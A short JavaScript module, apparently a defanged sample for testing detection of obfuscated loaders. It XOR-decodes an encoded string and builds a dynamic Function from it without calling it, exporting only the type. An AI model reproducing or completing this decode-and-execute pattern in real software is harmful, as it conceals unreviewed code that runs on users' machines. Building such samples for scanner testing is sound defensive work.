// Defanged: the decoded text is never run (the Function is not called).
const S = 'yC=|7<(=u=@}9gfP|LmlNcG7~k?*&}A^U<v7-*$HX~Iu^>b+r8Bnd|c>Mb3GPB#odvv(&|cFE_z8Z/S2c!T(|OHn4dJETKc(bsJ]M([Q3n6-A6J-@Ud^NC[_<I%Z.rX^w<?kqwlc]:RjqfQ6K)1pn[Mw:w]10vbF3uaF40.-0i^+man16h$y@]l-edP$tR69gAnvEx-}98,)f=C4N)XI6+xpR}|Sqy@2Hy>&-yY(/XY3fPVqKmj#R0R{/H0vX&Wwm7oAr*%{b)ut2!U;nNKZ]X)Y%(mtr~kvnZ;L&1?gNVeDd+_h)=^_WOE{v|TH}5ly';
function d(s, k) {
  let o = '';
  for (let i = 0; i < s.length; i++) o += String.fromCharCode(s.charCodeAt(i) ^ k.charCodeAt(i % k.length));
  return o;
}
const f = new Function(d(S, 'k3y'));
module.exports = typeof f;
